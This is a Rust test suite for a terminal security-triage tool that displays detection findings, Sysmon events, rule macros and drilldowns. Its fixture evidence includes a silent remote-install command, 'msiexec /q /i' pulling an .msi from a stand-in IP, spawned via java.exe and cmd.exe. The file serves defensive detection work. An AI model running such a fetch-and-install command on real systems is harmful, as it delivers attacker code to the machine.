//! Key strings typed into the details, the drilldowns, the rule and the ledger.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "helpers of tests: what fails is to be loud"
)]

mod common;

use common::{Desk, evidence};
use gimlet::app::Message;
use gimlet::worker::{Job, Report};
use std::sync::Arc;

fn desk() -> Desk {
    Desk::loaded(evidence::sample(), 130, 32)
}

#[test]
fn details_show_where_everything_came_from() {
    let mut desk = Desk::loaded(evidence::sample(), 160, 45);
    desk.keys("<enter>");
    assert!(desk.screen().contains("hxxps://mgmt.corp.example/agents"));
    assert!(desk.screen().contains("NT AUTHORITY\\SYSTEM (row: SYSTEM)"));
    desk.keys("]");
    assert!(matches!(desk.jobs.last(), Some(Job::Fields { .. })));
    assert!(desk.screen().contains("IntegrityLevel, ours"));
    desk.keys("/integ<enter>y");
    assert_eq!(desk.copied(), Some("high"));
    desk.keys("]");
    assert!(matches!(desk.jobs.last(), Some(Job::Raw { .. })));
    assert!(desk.screen().contains("<EventID>1</EventID>"));
    let asked = desk.jobs.len();
    desk.keys("[[]]");
    assert_eq!(desk.jobs.len(), asked, "what is known is not asked again");
}

#[test]
fn the_events_of_a_row_are_gone_through() {
    let mut desk = desk();
    assert!(desk.screen().contains("event 1 of 3"));
    desk.keys(">>");
    assert!(desk.screen().contains("event 3 of 3") && desk.screen().contains("#88219"));
    desk.keys(">");
    assert!(desk.screen().contains("event 3 of 3"));
}

#[test]
fn a_machine_that_is_not_its_dest_is_named() {
    let mut desk = Desk::loaded(evidence::sample(), 160, 45);
    desk.keys("/alice<enter>");
    let screen = desk.screen();
    assert!(screen.contains("▾ lap-3 ▸ alice"));
    assert!(screen.contains("198.51.100.7  ran on lap-3;"));
}

#[test]
fn other_copies_and_assumed_zones_are_said() {
    let mut desk = Desk::loaded(evidence::sample(), 200, 50);
    desk.keys("/cmd nv<enter>");
    assert!(desk.screen().contains("also in    web-02/vss1/"));
    desk.keys("<esc><esc>/bob<enter>");
    assert!(desk.screen().contains("~2022-06-11T09:12:00Z"));
    assert!(desk.screen().contains("~ no zone in the log"));
}

#[test]
fn drilldowns_are_asked_for_the_selected_row() {
    let mut desk = desk();
    desk.keys("/nv<enter>2");
    let Some(Job::Drilldown {
        which: 0,
        row,
        all_time: false,
        ..
    }) = desk.jobs.last().cloned()
    else {
        panic!("{:?}", desk.jobs)
    };
    assert_eq!(desk.app.findings.text(row, "user"), "iis-app");
    assert!(desk.screen().contains("columns 1–"));
    desk.keys("<enter>");
    assert!(desk.screen().contains("Row 1 of 2") && desk.screen().contains("vendor_product"));
    desk.keys("<esc><tab><enter>");
    assert!(desk.screen().contains("cmd.exe /c b"));
    desk.keys("<esc>y");
    assert!(desk.copied().unwrap().contains("web-02.corp.example"));
    desk.keys("<tab>y");
    assert!(
        desk.copied()
            .unwrap()
            .ends_with("| search user = \"iis-app\" dest = \"web-02.corp.example\"")
    );
    let asked = desk.jobs.len();
    desk.keys("3");
    assert!(desk.screen().contains("ours: risk score"));
    assert!(desk.screen().contains("in ES every rule counts"));
    desk.keys("w");
    assert!(matches!(
        desk.jobs.last(),
        Some(Job::Drilldown { all_time: true, .. })
    ));
    assert!(desk.screen().contains("over everything that is loaded"));
    desk.keys("2123");
    assert_eq!(
        desk.jobs.len(),
        asked + 2,
        "what is known is not asked again"
    );
    desk.keys("<esc>");
    assert!(desk.screen().contains("Findings · dest"));
}

#[test]
fn a_drilldown_that_can_not_be_run_is_drawn_line_by_line() {
    let mut desk = desk();
    desk.keys("2");
    let Some(Job::Drilldown { generation, .. }) = desk.jobs.last().cloned() else {
        panic!("{:?}", desk.jobs)
    };
    let drawn = "error[X]: no\n --> r.yml:3:5\n  |\n3 |  a b\n  |    ^\n";
    desk.message(Message::Report(Report::Drilldown {
        generation,
        which: 0,
        result: Err(drawn.into()),
    }));
    let screen = desk.screen();
    let lines: Vec<&str> = screen.lines().collect();
    let place = lines.iter().position(|l| l.contains("--> r.yml:3:5"));
    let under = lines[place.unwrap() + 3];
    assert!(lines[place.unwrap() + 2].contains("3 |  a b"), "{screen}");
    assert!(under.contains("  |    ^"), "{screen}");
}

#[test]
fn a_late_result_of_another_row_is_dropped() {
    let mut desk = desk();
    desk.keys("2");
    let result = Report::Drilldown {
        generation: 77,
        which: 0,
        result: Err("of another time".into()),
    };
    desk.message(Message::Report(result));
    assert!(!desk.screen().contains("of another time"));
    let text = Ok("of another event".into());
    desk.keys("1]]");
    desk.message(Message::Report(Report::Raw {
        event: 0,
        generation: 77,
        text,
    }));
    desk.keys("/nv<enter>");
    assert!(!desk.screen().contains("of another event"));
}

#[test]
fn a_record_that_is_gone_says_so() {
    let mut desk = Desk::loaded(evidence::sample(), 160, 45);
    desk.keys("<enter>]]");
    let Some(Job::Raw { event, generation }) = desk.jobs.last().cloned() else {
        panic!("{:?}", desk.jobs)
    };
    let text = Err("'sysmon.evtx' has changed since it was read".into());
    desk.message(Message::Report(Report::Raw {
        event,
        generation,
        text,
    }));
    assert!(desk.screen().contains("has changed since it was read"));
}

#[test]
fn the_rule_is_searched_and_its_macros_expanded() {
    let mut desk = desk();
    desk.keys("4/macros.conf<enter>");
    assert!(
        desk.screen()
            .contains("`windows_msiexec_remote_download_filter` from macros.conf")
    );
    desk.keys("<esc>go/OR Processes<enter>");
    assert!(desk.screen().contains("search, macros expanded"));
    desk.keys("y");
    assert!(
        desk.copied()
            .unwrap()
            .contains("OR Processes.original_file_name")
    );
    desk.keys("<esc>G");
    let screen = desk.screen();
    assert!(
        screen.contains("8,214") && screen.contains("Processes.process_name"),
        "{screen}"
    );
}

#[test]
fn evidence_is_folded_and_accounted_for() {
    let mut desk = Desk::loaded(evidence::sample(), 160, 45);
    desk.keys("5j");
    let screen = desk.screen();
    assert!(screen.contains("#77: the chunk is cut off") && screen.contains("78-90"));
    assert!(screen.contains("read, with bad records"));
    desk.keys("h");
    let screen = desk.screen();
    assert!(screen.contains("▸ Problems") && !screen.contains("B ws-017/C…"));
    // What is wrong with each file is said of all of them too.
    assert!(screen.contains("  1 bad · #77: the chunk is cut off"));
    desk.keys("5/7z<enter>y");
    assert_eq!(desk.copied(), Some("collection.7z"));
    assert!(desk.screen().contains("unpack it with 7z x first"));
}

#[test]
fn what_is_copied_is_exact() {
    let mut desk = desk();
    desk.keys("/nv cmd<enter>y");
    assert_eq!(
        desk.copied(),
        Some("msiexec  /q /i http://203.0.113.9:9900/nv.msi")
    );
    assert!(
        desk.screen()
            .contains("went to the terminal's clipboard by OSC 52")
    );
    desk.keys("Yd");
    assert_eq!(desk.copied(), Some("hxxp://203.0.113.9:9900/nv.msi"));
    desk.keys("Yr");
    let json: serde_json::Value = serde_json::from_str(desk.copied().unwrap()).unwrap();
    assert_eq!(
        (json["user"].as_str(), json["count"].as_u64()),
        (Some("iis-app"), Some(1))
    );
}

#[test]
fn an_event_of_the_evidence_is_read_in_full() {
    let mut desk = desk();
    desk.keys("/nv<enter>2");
    let Some(Job::Drilldown { generation, .. }) = desk.jobs.last().cloned() else {
        panic!("{:?}", desk.jobs)
    };
    // As the engine gives it: a line and a place, no fields.
    let mut result = desk.app.drilldowns[0].found().unwrap().clone();
    result
        .events
        .iter_mut()
        .for_each(|event| event.fields.clear());
    desk.message(Message::Report(Report::Drilldown {
        generation,
        which: 0,
        result: Ok(Arc::new(result)),
    }));
    desk.keys("<tab><enter>");
    assert!(matches!(desk.jobs.last(), Some(Job::Fields { .. })));
    let screen = desk.screen();
    assert!(
        screen.contains("web-02/Microsoft-Windows-Sysmon%4Operational.evtx #"),
        "{screen}"
    );
    assert!(screen.contains("Provider     Microsoft-Windows-Sysmon"));
    desk.keys("y");
    assert!(desk.copied().unwrap().contains("EventID: 1\n"));
}

#[test]
fn columns_are_turned_by_one_and_by_a_screen() {
    let mut desk = Desk::loaded(evidence::sample(), 80, 24);
    desk.keys("/nv<enter>2");
    assert!(desk.screen().contains("columns 1–5 of 23 →  h l H L"));
    desk.keys("l");
    assert!(desk.screen().contains("← columns 2–"));
    desk.keys("hL");
    assert!(desk.screen().contains("← columns 5–"));
    desk.keys("LLLLLLLLLLLLLLLLLLLLLLll");
    let screen = desk.screen();
    assert!(
        screen.contains("of 23  h l H L") && screen.contains("lastTime"),
        "{screen}"
    );
    let end = screen;
    desk.keys("l");
    assert_eq!(desk.screen(), end);
    desk.keys("HHHHHHHHHHHHHHHHHHHHHHHH");
    assert!(desk.screen().contains(" columns 1–5 of 23 →"));
}

#[test]
fn the_summary_says_who_started_whom() {
    let mut desk = desk();
    desk.keys("/nv cmd<enter>");
    let screen = desk.screen();
    assert!(screen.contains("java.exe ▸ cmd.exe ▸ msiexec.exe"));
    assert!(screen.contains("parent     \"C:\\Windows\\system32\\cmd.exe\""));
}
